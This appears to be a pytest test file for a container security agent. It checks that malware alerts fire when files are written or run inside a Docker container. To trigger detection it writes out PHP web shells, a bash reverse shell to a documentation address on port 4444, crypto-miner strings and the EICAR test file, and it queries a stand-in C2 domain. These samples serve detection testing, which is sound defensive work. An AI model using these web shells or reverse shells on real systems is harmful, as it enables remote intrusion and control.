"""Files that containers write and start, and names they ask for, on this kernel: seen, scanned, told; traps counted."""

import os
import subprocess
import time

import pytest

from conftest import docker_cli
from seawall.agent.problems import Problems
from seawall.agent.settings import Settings
from seawall.agent.watch import Watch
from seawall.node import rootfs
from seawall.node.docker import Docker
from seawall.runtime import load, plan
from seawall.runtime.detect.indicators import Indicator, pack
from seawall.runtime.model import Container

pytestmark = [
    pytest.mark.kernel,
    pytest.mark.docker,
    pytest.mark.skipif(os.geteuid() != 0, reason="loads eBPF programs: needs root"),
]
NAME = IMAGE = "seawall-test-samples"
EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MINER = "xmrig donate-level randomx stratum+tcp rx/0 cryptonight"
LISTED = pack([Indicator("domain", "evil-example.com", "c2", "test"), Indicator("ip", "127.0.0.9", "c2", "test")])


@pytest.fixture(scope="module")
def container(dockerd):
    programs = (*rootfs.PROGRAMS, "ln", "mv", "truncate", "gzip", "tar", "head", "getent", "timeout")
    Docker().import_image(IMAGE, rootfs.build(programs, {"/etc/nsswitch.conf": b"hosts: dns\n"}))
    subprocess.run(["docker", "rm", "-f", NAME], capture_output=True, timeout=30, check=False)
    created = docker_cli("run", "-d", "--name", NAME, "--dns", "127.0.0.1", IMAGE, "sleep", "900")
    yield created
    docker_cli("rm", "-f", NAME)
    docker_cli("rmi", IMAGE)


@pytest.fixture(scope="module")
def node(container, tmp_path_factory):
    made = Node(container, tmp_path_factory.mktemp("state"))
    yield made
    made.stop()


class Node:
    """The agent's part that watches, in this process; only this module's container is judged."""

    def __init__(self, container, state):
        self.container = container
        self.said = []
        os.environ["SEAWALL_STATE"] = str(state)
        self.watch = Watch(self.said.append, Problems())
        packaged = load.system_plan()
        sealed = plan.seal(packaged.rules, packaged.lists, packaged.filters, listed=LISTED)
        self.watch.start(Settings("", sealed))
        assert self.watch.on, self.watch.counters()
        self.watch.know(Container(container, NAME, IMAGE, IMAGE, complete=True))

    def stop(self):
        self.watch.stop()
        os.environ.pop("SEAWALL_STATE", None)

    def run(self, script):
        docker_cli("exec", NAME, "bash", "-c", script)

    def until(self, met, seconds=60):
        end = time.monotonic() + seconds
        while True:
            self.watch.handle()
            found = met(self)
            if found:
                return found
            assert time.monotonic() < end, (
                str(self.watch.samples()),
                self.watch.counters(),
                [alert["rule"] for alert in self.alerts()],
            )
            time.sleep(0.05)

    def alerts(self):
        return [alert for alert in self.said if alert["container"].get("id") == self.container]

    def verdict(self, path, rule=""):
        return next(
            (
                alert
                for alert in self.alerts()
                if alert["evidence"].get("file", {}).get("path") == path
                and alert["category"] == "malware"
                and rule in ("", alert["rule"])
            ),
            None,
        )

    def skipped(self, why):
        return self.watch.samples()["skipped"].get(why, 0)


def test_a_written_file_is_told_with_all_that_is_known(node):
    node.run(f"mkdir -p /srv; printf '%s' '{EICAR}' > /srv/e.txt")
    alert = node.until(lambda n: n.verdict("/srv/e.txt"))
    sample = alert["evidence"]["sample"]
    assert (alert["rule"], alert["severity"]) == ("malware_written", "high")
    assert sample["sha256"] == "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
    assert (sample["rule"], sample["family"], sample["offset"], sample["size"]) == ("eicar_test_file", "test", 0, 68)
    assert (sample["executed"], sample["replaced"]) == (False, False)
    assert alert["process"]["exe"].endswith("bash")
    assert alert["evidence"]["file"]["upper"] is True


def test_web_shells_archives_and_files_under_another_name(node):
    node.run("mkdir -p /var/www; echo '<?php system($_GET[1]); ?>' > /var/www/x.php")
    node.run("mkdir -p /tmp/a; echo '<?php eval($_POST[1]); ?>' > /a.php; cd /; tar cf /tmp/a/x.tar a.php; rm /a.php")
    node.run("echo '<?php assert($_REQUEST[1]); ?>' > /tmp/up.part; mv /tmp/up.part /var/www/up.php")
    assert node.until(lambda n: n.verdict("/var/www/x.php"))["rule"] == "web_shell_written"
    archive = node.until(lambda n: n.verdict("/tmp/a/x.tar"))
    assert archive["evidence"]["sample"]["member"] == "a.php"
    assert node.until(lambda n: n.verdict("/var/www/up.php") or n.verdict("/tmp/up.part"))


def test_a_file_that_is_run(node):
    node.run(f"cp /bin/ls /tmp/kworker; echo '{MINER}' >> /tmp/kworker; /tmp/kworker > /dev/null")
    alert = node.until(lambda n: n.verdict("/tmp/kworker", "malware_executed"))
    assert alert["severity"] == "critical"
    assert alert["evidence"]["sample"]["family"] == "miner"
    node.run(f"cp /bin/sleep /tmp/gone; echo '{MINER}' >> /tmp/gone; /tmp/gone 60 & sleep 0.1; rm /tmp/gone")
    assert node.until(lambda n: n.verdict("/tmp/gone", "malware_executed")), "deleted while it runs"


def test_a_slow_download_is_judged_whole(node):
    node.run("(printf '#!/bin/bash\\n'; sleep 3; echo 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1') > /tmp/slow.sh")
    assert node.until(lambda n: n.verdict("/tmp/slow.sh"))["evidence"]["sample"]["family"] == "reverse_shell"


def test_ordinary_files_are_quiet(node):
    before = node.watch.samples()["scanned"]
    node.run(
        "mkdir -p /etc/app; echo 'key=value' > /etc/app/conf; echo '#!/bin/sh' > /tmp/ok.sh;"
        "cp /bin/ls /tmp/ls2; /tmp/ls2"
    )
    node.until(lambda n: n.watch.samples()["scanned"] >= before + 3)
    assert not [alert for path in ("/etc/app/conf", "/tmp/ok.sh", "/tmp/ls2") if (alert := node.verdict(path))]


def test_traps_are_counted_and_not_waited_for(node):
    counts = {why: node.skipped(why) for why in ("not_a_file", "link", "gone", "size", "kind")}
    node.run("echo x > /tmp/t1; rm /tmp/t1; mkfifo /tmp/t1")
    node.run("echo x > /tmp/t2; rm /tmp/t2; ln -s t2 /tmp/t2")
    node.run("echo x > /tmp/t3; rm /tmp/t3")
    node.run("echo '#!/bin/sh' > /tmp/t4; truncate -s 900G /tmp/t4")
    node.run("printf '\\001\\002\\003' > /tmp/t5")
    node.run("tar czf /tmp/t6 -C / bin; head -c 3000 /tmp/t6 > /tmp/t7")
    node.run("mkdir /tmp/t8; echo x > /tmp/t8/x; mv /tmp/t8 /tmp/t9; ln -s /etc /tmp/t8")
    node.until(lambda n: all(n.skipped(why) > count for why, count in counts.items()))
    node.run(f"printf '%s' '{EICAR}' > /srv/after.txt")
    assert node.until(lambda n: n.verdict("/srv/after.txt")), "and the scanner goes on"


def test_the_scanner_may_die(node):
    node.run("echo '#!/bin/sh' > /tmp/wake.sh")
    child = node.until(lambda n: n.watch._scanning._child > 0 and n.watch._scanning._child)
    os.kill(child, 9)
    node.run(f"printf 'x%s' '{EICAR}' > /srv/again.txt")
    assert node.until(lambda n: n.verdict("/srv/again.txt"))


def test_a_listed_name_and_a_listed_address(node):
    subprocess.run(
        ["docker", "exec", NAME, "getent", "hosts", "cdn.evil-example.com"],
        capture_output=True,
        timeout=60,
        check=False,
    )
    asked = node.until(lambda n: next((one for one in n.alerts() if one["rule"] == "listed_domain_asked"), None))
    assert asked["evidence"]["dns"]["name"] == "cdn.evil-example.com"
    assert asked["evidence"]["dns_indicator"]["value"] == "evil-example.com"
    assert asked["process"]["exe"].endswith("getent")
    subprocess.run(
        ["docker", "exec", NAME, "timeout", "2", "bash", "-c", ": < /dev/tcp/127.0.0.9/443"],
        capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    asked = node.until(lambda n: next((one for one in n.alerts() if one["rule"] == "listed_address_contacted"), None))
    assert asked["evidence"]["net_indicator"] == {
        "value": "127.0.0.9", "kind": "c2", "source": "test", "confidence": 50,
    }  # fmt: skip
